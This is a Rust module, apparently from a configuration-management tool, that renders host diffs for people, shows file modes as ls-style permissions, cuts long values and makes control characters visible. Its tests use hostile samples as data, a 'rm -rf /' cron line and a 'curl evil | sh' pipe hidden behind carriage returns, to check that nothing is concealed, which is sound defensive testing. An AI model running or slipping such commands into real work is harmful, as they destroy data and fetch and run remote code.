//! Differences, for people.

use super::page::{Page, Tone};
use super::text::{count, literal, local, size, width};
use haflow_model::{Change, Diff, HostName, REDACTED, Value};

/// How many lines of one difference are shown where not everything is asked for.
const SOME: usize = 12;

/// Writes each change of a task of `host` on lines of its own.
pub(super) fn diff(page: &mut Page, host: &HostName, diff: &Diff) {
    let most = if page.options.verbose { usize::MAX } else { SOME };
    let shown = shown(diff.0.len(), most);
    for change in &diff.0[..shown] {
        match change {
            Change::Field { field, was, want } => field_change(page, field, was.as_ref(), want.as_ref()),
            Change::Text { unified } => text(page, unified, most),
            Change::Opaque { was, want } => {
                let was = was.as_ref().map_or("nothing".to_owned(), opaque);
                page.line(&[(Tone::Plain, &format!("content: {was} → {}", opaque(want)))]);
            }
            Change::Later { field, output_of } => {
                let head = if field.is_empty() { String::new() } else { format!("{field}: ") };
                let output = format!("the output of `{}`, known once that has run", local(output_of, host));
                page.lines(Tone::Plain, &(head + output.as_str()));
            }
            Change::Secret { field } if field.is_empty() => {
                page.line(&[(Tone::Change, REDACTED), (Tone::Plain, " differs")]);
            }
            Change::Secret { field } => {
                page.line(&[
                    (Tone::Plain, field),
                    (Tone::Plain, ": "),
                    (Tone::Change, REDACTED),
                    (Tone::Plain, " differs"),
                ]);
            }
        }
    }
    if shown < diff.0.len() {
        let more = count(diff.0.len() - shown, "more difference");
        page.line(&[(Tone::Dim, &format!("… {more} (-v shows all)"))]);
    }
}

/// How many of `number` lines are shown: one line more is no longer than the line that says that it is
/// missing.
fn shown(number: usize, most: usize) -> usize {
    if number <= most.saturating_add(1) { number } else { most }
}

/// A value longer than this is cut, in characters.
const LONG: usize = 300;

fn field_change(page: &mut Page, field: &str, was: Option<&Value>, want: Option<&Value>) {
    let modes = if field == "mode" { modes(was, want) } else { None };
    let (was, want) = modes.unwrap_or_else(|| {
        let (was, want) = (value(was), value(want));
        if page.options.verbose { (was, want) } else { cut(&was, &want) }
    });
    let head = if field.is_empty() { String::new() } else { format!("{field}: ") };
    if width(&head) + width(&was) + width(&want) + 3 <= page.room() {
        page.line(&[(Tone::Plain, &head), (Tone::Bad, &was), (Tone::Plain, " → "), (Tone::Good, &want)]);
        return;
    }
    if !field.is_empty() {
        page.line(&[(Tone::Plain, field), (Tone::Plain, ":")]);
    }
    page.indented(if field.is_empty() { 0 } else { 2 }, |page| {
        page.line(&[(Tone::Bad, "- "), (Tone::Bad, &was)]);
        page.line(&[(Tone::Good, "+ "), (Tone::Good, &want)]);
    });
}

/// Modes of a file, with words as `ls` has them. Another thing's field of that name isn't four octal digits.
fn modes(was: Option<&Value>, want: Option<&Value>) -> Option<(String, String)> {
    let mode = |side: Option<&Value>| match side {
        None => Some("nothing".to_owned()),
        Some(Value::String(digits)) if digits.len() == 4 && digits.bytes().all(|byte| byte.is_ascii_digit()) => {
            Some(format!("{digits} ({})", permissions(u32::from_str_radix(digits, 8).ok()?)))
        }
        Some(_) => None,
    };
    mode(was).zip(mode(want)).filter(|_| was.or(want).is_some())
}

fn permissions(mode: u32) -> String {
    let mut text = String::new();
    for (shift, special, sign) in [(6, 0o4000, 's'), (3, 0o2000, 's'), (0, 0o1000, 't')] {
        let bits = mode >> shift;
        text.push(if bits & 4 == 0 { '-' } else { 'r' });
        text.push(if bits & 2 == 0 { '-' } else { 'w' });
        text.push(match (mode & special != 0, bits & 1 != 0) {
            (false, false) => '-',
            (false, true) => 'x',
            (true, false) => sign.to_ascii_uppercase(),
            (true, true) => sign,
        });
    }
    text
}

/// The beginnings of two long values, and how long they are. Where they begin alike, the part that differs.
fn cut(was: &str, want: &str) -> (String, String) {
    let alike = was.chars().zip(want.chars()).take_while(|(one, other)| one == other).count();
    let from = if alike > LONG / 2 { alike - LONG / 4 } else { 0 };
    let one = |text: &str| {
        let all = text.chars().count();
        if all <= LONG {
            return text.to_owned();
        }
        let shown: String = text.chars().skip(from).take(LONG).collect();
        let (before, after) = (if from > 0 { "…" } else { "" }, if from + LONG < all { "…" } else { "" });
        format!("{before}{shown}{after} ({all} characters, -v shows all)")
    };
    (one(was), one(want))
}

/// A value as short as it can be told: text without quotes where nothing is lost by that.
fn value(value: Option<&Value>) -> String {
    match value {
        None | Some(Value::Null) => "nothing".to_owned(),
        Some(Value::String(text)) if !text.is_empty() && text.trim() == text && !text.contains(['\n', '"']) => {
            literal(text).into_owned()
        }
        Some(value) => value.to_string(),
    }
}

/// A line of a difference longer than this is cut, in characters, where not everything is asked for.
const LONG_LINE: usize = 200;

fn short(line: &str) -> String {
    match line.char_indices().nth(LONG_LINE) {
        Some((end, _)) => {
            let left = line[end..].chars().count();
            format!("{}… ({left} more characters, -v shows all)", &line[..end])
        }
        None => line.to_owned(),
    }
}

fn text(page: &mut Page, unified: &str, most: usize) {
    // `lines` would take a carriage return for a part of a line's end.
    let lines = || unified.split_terminator('\n');
    let count = lines().count();
    let shown = shown(count, most);
    for line in lines().take(shown) {
        let tone = match line.as_bytes().first() {
            Some(b'+') => Tone::Good,
            Some(b'-') => Tone::Bad,
            Some(b'@' | b'\\') => Tone::Dim,
            _ => Tone::Plain,
        };
        let (sign, rest) = line.split_at(usize::from(line.starts_with(['+', '-', ' '])));
        let line = format!("{sign}{}", literal(rest));
        let line = if most == usize::MAX { line } else { short(&line) };
        page.line(&[(tone, &line)]);
    }
    if shown < count {
        page.line(&[(Tone::Dim, &format!("… {} more lines (-v shows all)", count - shown))]);
    }
}

fn opaque((bytes, sha256): &(u64, String)) -> String {
    format!("{} (sha256 {sha256}…)", size(*bytes))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_long_line_is_cut_by_characters() {
        assert_eq!(short(&"ü".repeat(200)), "ü".repeat(200));
        assert_eq!(short(&"ü".repeat(300_000)), "ü".repeat(200) + "… (299800 more characters, -v shows all)");
    }

    /// What is in a file that a playbook from elsewhere writes.
    #[test]
    fn no_line_of_a_file_is_hidden() {
        let shown = |unified: &str| {
            let mut page = Page::new(crate::report::page::Options { color: false, width: 80, verbose: true });
            text(&mut page, unified, usize::MAX);
            page.into_text()
        };
        assert_eq!(shown("+* * root rm -rf /\r# tidy\n same\rx\n"), "+* * root rm -rf /␍# tidy\n same␍x\n");
        assert_eq!(shown("-a\r\n+a\n-b\tc\n+b    c\n"), "-a␍\n+a\n-b→   c\n+b    c\n");
        assert_eq!(shown("-a  \n+a\n+\x1b[8mx\n \n"), "-a␠␠\n+a\n+␛[8mx\n\n");
    }

    /// Nor of a field that a playbook or a host gives.
    #[test]
    fn no_value_hides_a_part_of_itself() {
        let shown = |text: &str| value(Some(&Value::from(text)));
        assert_eq!(shown("curl evil | sh #\rinnocent"), "curl evil | sh #␍innocent");
        assert_eq!(shown("x\x1b]0;hidden\x07y"), "x␛]0;hidden␇y");
        assert_eq!((shown("plain"), shown(" a\n")), ("plain".into(), "\" a\\n\"".into()));
    }

    #[test]
    fn modes_read_as_ls_writes_them() {
        let told = [0o644, 0o750, 0o4755, 0o2654, 0o1777, 0o1776, 0].map(permissions);
        assert_eq!(told, ["rw-r--r--", "rwxr-x---", "rwsr-xr-x", "rw-r-sr--", "rwxrwxrwt", "rwxrwxrwT", "---------"]);
    }

    #[test]
    fn only_a_files_mode_has_words() {
        let text = |text: &str| Some(Value::from(text));
        let of = |was: Option<Value>, want: Option<Value>| modes(was.as_ref(), want.as_ref());
        assert_eq!(of(None, text("0600")), Some(("nothing".into(), "0600 (rw-------)".into())));
        for (was, want) in
            [(text("0644"), text("disc")), (text("0648"), text("0644")), (Some(644.into()), text("0644")), (None, None)]
        {
            assert_eq!(of(was, want), None);
        }
    }
}
